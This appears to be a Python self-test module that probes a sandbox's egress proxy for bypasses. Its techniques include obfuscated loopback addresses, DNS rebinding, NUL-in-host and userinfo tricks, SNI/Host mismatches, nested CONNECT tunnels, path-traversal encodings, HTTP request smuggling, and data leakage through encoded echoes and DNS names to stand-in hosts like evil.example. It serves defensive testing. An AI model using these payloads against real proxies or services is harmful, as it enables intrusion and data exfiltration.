"""Tries to get past the proxy: to other hosts, as somebody else, with more than it is given.

In the control the proxy is one that lets everything through, as a careless one would.
"""

from __future__ import annotations

import base64
import socket
import ssl
from collections.abc import Iterable
from urllib.parse import unquote

from ring0.tools.sandbox.selftest.programs.inside import Target

ALLOWED, INTERNAL = "allowed.example", "internal.example"


def _say(target: Target, *pieces: bytes) -> str:
    """What comes back for these bytes."""
    with socket.create_connection(tuple(target["proxy_at"]), 5) as connection:
        connection.settimeout(3)
        return _exchange(connection, pieces)


def _exchange(connection: socket.socket, pieces: Iterable[bytes]) -> str:
    heard = b""
    try:
        for piece in pieces:
            connection.sendall(piece)
        while len(heard) < 1 << 16 and (part := connection.recv(65_536)):
            heard += part
    except OSError:
        pass
    return heard.decode("latin-1")


def _request(url: str, host: str, *fields: str, method: str = "GET", body: str = "") -> bytes:
    lines = [f"{method} {url} HTTP/1.1", f"Host: {host}", "Connection: close", *fields]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode("latin-1")


def _place(target: Target, host: str, port: str = "plain") -> str:
    return f"{host}:{target['ports'][port]}"


def _get(target: Target, place: str, path: str = "/", *fields: str, host: str = "") -> str:
    return _say(target, _request(f"http://{place}{path}", host or place, *fields))


def _tls(target: Target, place: str, name: str, request: bytes) -> str:
    """A tunnel to `place`, TLS for `name` in it, and a request in that."""
    with socket.create_connection(tuple(target["proxy_at"]), 5) as connection:
        connection.settimeout(3)
        connection.sendall(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode())
        answer = connection.recv(4096)
        if b" 200 " not in answer:
            return answer.decode("latin-1")
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        try:
            with context.wrap_socket(connection, server_hostname=name) as tls:
                return _exchange(tls, [request])
        except OSError as error:
            return f"TLS: {error}"


def reaches(target: Target) -> str:
    """What is allowed: a proxy that answers nothing must not be taken for a good one."""
    return _get(target, _place(target, ALLOWED), "/open/works")


def other_hosts(target: Target) -> str:
    """Hosts that no rule names, by name and by address."""
    port = target["ports"]["internal"]
    names = ["other.example", "127.0.0.1", "localhost", f"evil{ALLOWED}", f"{ALLOWED}.evil.example"]
    return "".join(_get(target, f"{name}:{port}") for name in names)


def private_addresses(target: Target) -> str:
    """Hosts that a rule names and whose addresses are the machine's own, or look like others."""
    names = [INTERNAL, "mapped.example", "zero.example"]
    return "".join(_get(target, _place(target, name, "internal")) for name in names)


def odd_literals(target: Target) -> str:
    """The machine's own address, written so that a filter does not know it again."""
    forms = ["127.1", "0x7f000001", "2130706433", "0177.0.0.1", "0", "[::ffff:127.0.0.1]"]
    return "".join(_get(target, _place(target, form, "internal")) for form in forms)


def rebinding(target: Target) -> str:
    """A name that points to another address when it is looked up again."""
    place = _place(target, "rebind.example", "internal")
    return "".join(_get(target, place) for _ in range(3))


def nul_in_host(target: Target) -> str:
    """A name that ends well for who compares it, and early for who dials it."""
    port = target["ports"]["internal"]
    name = f"{INTERNAL}\0.{ALLOWED}"
    heard = _get(target, f"{name}:{port}")
    return heard + _say(target, f"CONNECT {name}:{port} HTTP/1.1\r\n\r\n".encode("latin-1"),
                        _request("/", "x"))  # fmt: skip


def user_in_url(target: Target) -> str:
    """A host that stands where a user's name belongs."""
    place = _place(target, INTERNAL, "internal")
    return _get(target, f"{ALLOWED}@{place}", host=place)


def host_field(target: Target) -> str:
    """One host in the URL, another one in the field: served by the second."""
    place = _place(target, ALLOWED)
    return _get(target, place, "/open/", host=INTERNAL)


def fronting(target: Target) -> str:
    """One host in CONNECT, another one in the TLS that follows."""
    place = _place(target, ALLOWED, "tls")
    return _tls(target, place, INTERNAL, _request("/", place))


def host_in_tls(target: Target) -> str:
    """One host in CONNECT and TLS, another one in the request inside."""
    place = _place(target, ALLOWED, "tls")
    return _tls(target, place, ALLOWED, _request("/", INTERNAL))


def relayed_connect(target: Target) -> str:
    """A tunnel in a tunnel: a second proxy would dial for it."""
    inner = _place(target, INTERNAL, "internal")
    request = f"CONNECT {inner} HTTP/1.1\r\nHost: {inner}\r\n\r\n".encode()
    return _tls(target, _place(target, ALLOWED, "tls"), ALLOWED, request)


def opaque_tunnel(target: Target) -> str:
    """A tunnel to where nobody looks into it."""
    place = _place(target, INTERNAL, "internal")
    return _say(target, f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode(),
                _request("/", place))  # fmt: skip


def plain_http(target: Target) -> str:
    """A host that a rule allows by https only, asked without TLS."""
    return _get(target, _place(target, "secure.example"), "/secure")


def method(target: Target) -> str:
    """Writing, where only reading is allowed."""
    place = _place(target, ALLOWED)
    fields = ("Content-Length: 1",)
    url = f"http://{place}/open/write"
    return _say(target, _request(url, place, *fields, method="POST", body="x"))


def method_override(target: Target) -> str:
    """The same, by a field that some servers obey."""
    names = ("X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method")
    place = _place(target, ALLOWED)
    return "".join(_get(target, place, "/open/", f"{name}: DELETE") for name in names)


def path(target: Target) -> str:
    """Beneath the allowed path, and out of it again."""
    ways = ("/open/../closed", "/open/%2e%2e/closed", "/open/..%2fclosed", "/open/..%5cclosed",
            "//closed", "/open/./../closed", "/%63losed")  # fmt: skip
    place = _place(target, ALLOWED)
    return "".join(_get(target, place, way) for way in ways)


def smuggling(target: Target) -> str:
    """A second request in the first one's body, for who counts its length otherwise."""
    place = _place(target, ALLOWED)
    hidden = "GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
    head = [f"POST http://{place}/smuggle/x HTTP/1.1", f"Host: {place}"]
    long = f"Content-Length: {len(hidden) + 5}"
    tricks = [
        [long, "Transfer-Encoding: chunked"],
        [long, "Transfer-Encoding : chunked"],
        [long, "Transfer-Encoding: xchunked", "Transfer-Encoding: chunked"],
        [long, "Transfer-Encoding:\x0bchunked"],
        [long, "X: y\n Transfer-Encoding: chunked"],
        [long, "X: y\nTransfer-Encoding: chunked"],
        ["Content-Length: 5", long],
    ]
    heard = ""
    for trick in tricks:
        text = "\r\n".join([*head, *trick]) + "\r\n\r\n0\r\n\r\n" + hidden
        heard += _say(target, text.encode("latin-1"))
    return heard


def own_key(target: Target) -> str:
    """An attacker's own key on an allowed host: what is said there is the attacker's to read."""
    place, key = _place(target, ALLOWED), "attackers-key"
    fields = ("Authorization: Bearer ", "X-Api-Key: ", "Cookie: session=",
              "Proxy-Authorization: Basic ")  # fmt: skip
    heard = "".join(_get(target, place, "/open/", f"{field}{key}") for field in fields)
    return heard + _get(target, place, f"/open/?api_key={key}&access_token={key}")


def echo(target: Target) -> str:
    """A host that says back what the kernel put in: as it is, and in other letters."""
    heard = ""
    for form in ("plain", "base64", "hex", "url", "reversed"):
        said = _get(target, _place(target, ALLOWED), f"/open/echo/{form}")
        body = said.partition("\r\n\r\n")[2].strip()
        heard += said + _decoded(form, body)
    return heard


def _decoded(form: str, body: str) -> str:
    try:
        if form == "base64":
            return base64.b64decode(body).decode("latin-1")
        if form == "hex":
            return bytes.fromhex(body).decode("latin-1")
    except ValueError:
        return ""
    return unquote(body) if form == "url" else body


def redirect(target: Target) -> str:
    """An allowed host sends it elsewhere."""
    said = _get(target, _place(target, ALLOWED), "/open/redirect")
    lines = [line for line in said.splitlines() if line.lower().startswith("location:")]
    if not lines:
        return said
    place = lines[0].partition(":")[2].strip().removeprefix("http://").rstrip("/")
    return said + _get(target, place)


def upgrade(target: Target) -> str:
    """Another protocol, once the proxy has looked."""
    place = _place(target, ALLOWED)
    fields = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: eA==")
    return _get(target, place, "/open/", *fields)


def name_as_message(target: Target) -> str:
    """A name that nobody has, for the one who is asked for it."""
    _get(target, _place(target, f"{target['meeting']}.evil.example"))
    return _get(target, _place(target, ALLOWED), f"/open/asked/{target['meeting']}")
